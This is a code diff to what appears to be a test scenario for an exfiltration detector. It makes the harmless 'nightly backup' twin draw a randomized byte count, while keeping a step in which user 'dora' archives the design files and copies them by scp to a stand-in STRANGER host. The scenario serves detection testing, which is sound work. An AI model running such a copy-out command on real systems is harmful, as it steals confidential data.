@@ -4,6 +4,14 @@ from __future__ import annotations
 
 from ..props import DESIGN_BYTES, designs, upload
 from ..scenario import BACKUP, STRANGER, Person, Scenario, Step, Truth
+from ..twins import Draw
+
+
+def _twin(draw: Draw) -> tuple[Step, ...]:
+    count = draw.number(DESIGN_BYTES, 1000, DESIGN_BYTES)
+    pack = f"head -c {count} /srv/designs/board.bin | gzip > /srv/nightly.gz"
+    return (Step(None, f"{pack} && {upload('/srv/nightly.gz', BACKUP)}", host="app"),)
+
 
 SCENARIO = Scenario(
     number=1,
@@ -12,12 +20,6 @@ SCENARIO = Scenario(
     prepared=(designs("app"),),
     steps=(Step("dora", f"ssh dora@app 'tar czf s.tgz -C /srv designs && scp -q s.tgz drop@{STRANGER}:'"),),
     twin_title="root's nightly job sends as much to the backup host",
-    twin=(
-        Step(
-            None,
-            f"tar czf /srv/nightly.tgz -C /srv designs && {upload('/srv/nightly.tgz', BACKUP)}",
-            host="app",
-        ),
-    ),
+    twin=_twin,
     truth=Truth("dora", ("app",), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
 )
